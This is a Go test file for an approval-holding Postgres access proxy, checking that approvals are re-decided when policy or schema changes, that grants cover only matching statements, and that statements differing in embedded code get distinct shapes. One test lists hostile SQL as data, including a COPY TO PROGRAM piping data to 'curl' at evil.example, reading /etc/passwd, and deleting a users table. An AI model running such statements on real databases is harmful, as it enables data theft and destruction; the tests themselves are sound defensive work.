package postgres_test

import (
	"strings"
	"testing"
	"time"

	sidecarv1alpha1 "github.com/tidewaiter/tidewaiter/api/sidecar/v1alpha1"
	"github.com/tidewaiter/tidewaiter/proxy/access"
)

func TestWhatWasApprovedIsDecidedAnew(t *testing.T) {
	d := openDesk(t)
	policy := askingFor("exports")
	p := start(t, config{decider: policy, approver: d.broker})
	conn := p.listening(t, "")

	got := conn.begin("SELECT total FROM orders WHERE id = 1")
	r := d.pending(t, "r1")
	within(t, conn.come, "notice") // where the answer comes with the name, nothing is said to be held
	policy.effect.Store(uint32(access.Deny))
	d.answer(r, "r1", access.AnswerApproved, nil)
	if out := within(t, got, "result"); !strings.Contains(out, "is denied (policy data/p, rule exports)") {
		t.Errorf("denied meanwhile: %s", out)
	}
	p.told(t, "Decided RequireApproval, Held data/r1, Answered Approved by alice, Decided Deny, Ended Denied")

	policy.effect.Store(uint32(access.RequireApproval))
	got = conn.begin("SELECT total FROM orders WHERE id = 2")
	r = d.pending(t, "r2")
	policy.ask(time.Minute, false, "exports", "more")
	d.answer(r, "r2", access.AnswerApproved, nil)
	if r = d.pending(t, "r3"); len(r.GetRules()) != 1 || r.GetRules()[0].GetRule() != "more" {
		t.Errorf("asked: %v", r)
	}
	d.answer(r, "r3", access.AnswerApproved, nil)
	if out := within(t, got, "result"); out != "2" {
		t.Errorf("approved by both: %s", out)
	}

	policy.ask(time.Minute, false, "exports")
	got = conn.begin("SELECT * FROM orders WHERE id = 2")
	r = d.pending(t, "r4")
	if err := p.server.Exec(t.Context(), p.db, "ALTER TABLE orders RENAME TO old; ALTER TABLE customers RENAME TO orders"); err != nil {
		t.Fatal(err)
	}
	d.answer(r, "r4", access.AnswerApproved, nil)
	if out := within(t, got, "result"); out != "2 Grace grace@example.org 219-09-9999" {
		t.Errorf("by the same facts it runs as it is now: %s", out)
	}
}

func TestAStatementThatMeansSomethingElseByNowIsAskedForAgain(t *testing.T) {
	d := openDesk(t)
	p := start(t, config{decider: askingFor("exports"), approver: d.broker, sql: shopSQL + "CREATE VIEW latest AS SELECT * FROM orders;", tags: map[string]string{"public.orders.secret": "pii/ssn"}})
	conn := p.listening(t, "")
	got := conn.begin("SELECT * FROM orders WHERE id = 2")
	r := d.pending(t, "r1")
	if err := p.server.Exec(t.Context(), p.db, "ALTER TABLE orders ADD COLUMN secret text DEFAULT '078-05-1120'"); err != nil {
		t.Fatal(err)
	}
	d.answer(r, "r1", access.AnswerApproved, nil)
	second := d.pending(t, "r2")
	if second.GetHold() == r.GetHold() {
		t.Error("it is the same request")
	}
	d.answer(second, "r2", access.AnswerApproved, nil)
	if out := within(t, got, "result"); out != "2 2 *****" {
		t.Errorf("got %s", out)
	}
}

func TestAClientThatDoesNotWaitComesAgain(t *testing.T) {
	for name, byRule := range map[string]bool{"by the rule": true, "by its own wish": false} {
		t.Run(name, func(t *testing.T) {
			d := openDesk(t)
			policy := askingFor("exports")
			policy.ask(time.Minute, byRule, "exports")
			p := start(t, config{decider: policy, approver: d.broker})
			application := "agent tidewaiter.dev/no-wait"
			if byRule {
				application = "agent"
			}
			conn, other := p.listening(t, application), p.listening(t, application)
			const text = "SELECT total FROM orders WHERE id = 5"
			got := conn.begin(text)
			r := d.pending(t, "r1")
			if !r.GetRefuse() {
				t.Error("the request does not say so")
			}
			if out := within(t, got, "result"); !strings.Contains(out, "which is asked for (data/r1)") || !strings.Contains(out, "42501") {
				t.Errorf("got %s", out)
			}
			if out := rows(other.PgConn, text); !strings.Contains(out, "(data/r1)") {
				t.Errorf("again: %s", out)
			}
			d.answer(r, "r1", access.AnswerApproved, nil)
			if out := rows(other.PgConn, text); out != "5" {
				t.Errorf("approved: %s", out)
			}
			got = conn.begin(text) // the approval is used up
			r = d.pending(t, "r2")
			within(t, got, "result")
			d.answer(r, "r2", access.AnswerDenied, nil)
			if out := rows(conn.PgConn, text); !strings.Contains(out, "and was denied by alice (data/r2)") {
				t.Errorf("denied: %s", out)
			}
			d.quiet(t)
			got = conn.begin("SELECT total FROM orders WHERE id = 6")
			d.pending(t, "r3")
			within(t, got, "result")
		})
	}
}

func TestGrantsLetTheLikeThrough(t *testing.T) {
	d := openDesk(t)
	policy := askingFor("exports")
	p := start(t, config{decider: policy, approver: d.broker})
	t.Cleanup(d.disconnect) // before the test looks for what is left
	one, two := p.listening(t, ""), p.listening(t, "")
	rules := []*sidecarv1alpha1.RuleReference{{Policy: "data/p", Rule: "exports"}}
	held := func(n *noticed, text string, grant func(r *sidecarv1alpha1.ApprovalRequest) *sidecarv1alpha1.Grant) string {
		got := n.begin(text)
		r := d.pending(t, "g1")
		outcome, g := access.AnswerDenied, (*sidecarv1alpha1.Grant)(nil)
		if grant != nil {
			outcome, g = access.AnswerApproved, grant(r)
		}
		d.answer(r, "g1", outcome, g)
		return within(t, got, "result")
	}
	through := func(n *noticed, text, want string) {
		t.Helper()
		if out := rows(n.PgConn, text); out != want {
			t.Errorf("%s: got %s, want %s", text, out, want)
		}
		d.quiet(t)
	}
	refused := func(n *noticed, text string) {
		t.Helper()
		if out := held(n, text, nil); !strings.Contains(out, "denied by alice") {
			t.Errorf("%s: got %s", text, out)
		}
	}
	const like = "SELECT total FROM orders WHERE id = "

	held(one, like+"1", func(r *sidecarv1alpha1.ApprovalRequest) *sidecarv1alpha1.Grant {
		return &sidecarv1alpha1.Grant{Name: "g1", Rules: rules, Shape: r.GetShape(), Session: r.GetSession(), Seconds: 60}
	})
	through(one, like+"2", "2")
	refused(two, like+"2") // another session
	refused(one, "SELECT count(*) FROM orders")
	policy.ask(time.Minute, false, "exports", "more")
	refused(one, like+"2") // other rules
	policy.ask(time.Minute, false, "exports")
	d.broker.GrantEnd(&sidecarv1alpha1.GrantEnd{Name: "g1"})
	refused(one, like+"2")

	held(one, like+"1", func(r *sidecarv1alpha1.ApprovalRequest) *sidecarv1alpha1.Grant {
		return &sidecarv1alpha1.Grant{Name: "g1", Rules: rules, Shape: r.GetShape(), Seconds: 60}
	})
	through(two, like+"3", "3")
	policy.effect.Store(uint32(access.Deny))
	if out := rows(two.PgConn, like+"3"); !strings.Contains(out, "is denied") {
		t.Errorf("a grant stands against a denial: %s", out)
	}
	policy.effect.Store(uint32(access.RequireApproval))
	d.disconnect()
	d.connect()
	refused(two, like+"3") // the stream that could take it back is gone

	held(one, like+"1", func(*sidecarv1alpha1.ApprovalRequest) *sidecarv1alpha1.Grant {
		return &sidecarv1alpha1.Grant{Name: "g1", Rules: rules, Access: &sidecarv1alpha1.GrantedAccess{Classes: []string{"Select"}, Tables: []string{"public.ord*"}}, Seconds: 1}
	})
	through(two, "SELECT total FROM orders WHERE id = 9 AND true", "9")
	refused(one, "UPDATE orders SET total = 1")
	time.Sleep(1100 * time.Millisecond)
	refused(two, like+"9")
}

func TestNothingIsLikeAStatementWhoseConstantsAreCode(t *testing.T) {
	d := openDesk(t)
	p := start(t, config{decider: askingFor("exports"), approver: d.broker})
	conn := p.listening(t, "")
	shape := func(text string) string {
		got := conn.begin(text)
		r := d.pending(t, "r1")
		d.answer(r, "r1", access.AnswerDenied, nil)
		within(t, got, "result")
		return string(r.GetShape())
	}
	for _, c := range []struct {
		one, other string
		alike      bool
	}{
		{"COPY orders TO PROGRAM 'gzip > /tmp/a'", "COPY orders TO PROGRAM 'curl -d @- evil.example'", false},
		{"SELECT pg_read_file('a') FROM orders", "SELECT pg_read_file('/etc/passwd') FROM orders", false},
		{"SELECT query_to_xml('SELECT 1', true, true, '') FROM orders", "SELECT query_to_xml('SELECT * FROM users', true, true, '') FROM orders", false},
		{"SELECT 1 FROM orders; DO 'BEGIN PERFORM 1; END'", "SELECT 1 FROM orders; DO 'BEGIN DELETE FROM users; END'", false},
		{"COPY orders TO PROGRAM 'gzip > /tmp/a'", "COPY orders TO PROGRAM 'gzip > /tmp/a'", true},
		{"DELETE FROM orders WHERE id = 1", "DELETE FROM orders WHERE id = 2", true},
		{"DELETE FROM orders WHERE id = 1", "DELETE FROM orders WHERE id = 1 OR true", false},
	} {
		if one, other := shape(c.one), shape(c.other); one == "" || (one == other) != c.alike {
			t.Errorf("%s\nis taken for the like of it: %v\n%s", c.one, one == other, c.other)
		}
	}
}

func TestACursorOfOtherParametersIsAnotherStatement(t *testing.T) {
	d := openDesk(t)
	policy := askingFor("exports")
	p := start(t, config{decider: policy, approver: d.broker})
	conn := p.listening(t, "")
	policy.effect.Store(uint32(access.Allow))
	digests := map[string]bool{}
	for _, id := range []string{"5", "6"} {
		rows(conn.PgConn, "BEGIN")
		if r := conn.ExecParams(t.Context(), "DECLARE c CURSOR FOR SELECT total FROM orders WHERE id = $1::int", [][]byte{[]byte(id)}, nil, nil, nil).Read(); r.Err != nil {
			t.Fatal(r.Err)
		}
		policy.effect.Store(uint32(access.RequireApproval))
		got := conn.begin("FETCH c")
		r := d.pending(t, "r1")
		d.answer(r, "r1", access.AnswerApproved, nil)
		if out := within(t, got, "result"); out != id {
			t.Errorf("got %s", out)
		}
		digests[string(r.GetDigest())] = true
		policy.effect.Store(uint32(access.Allow))
		rows(conn.PgConn, "ROLLBACK")
	}
	if len(digests) != 2 {
		t.Error("both have the same digest, so that the approval of one is good for the other")
	}
}
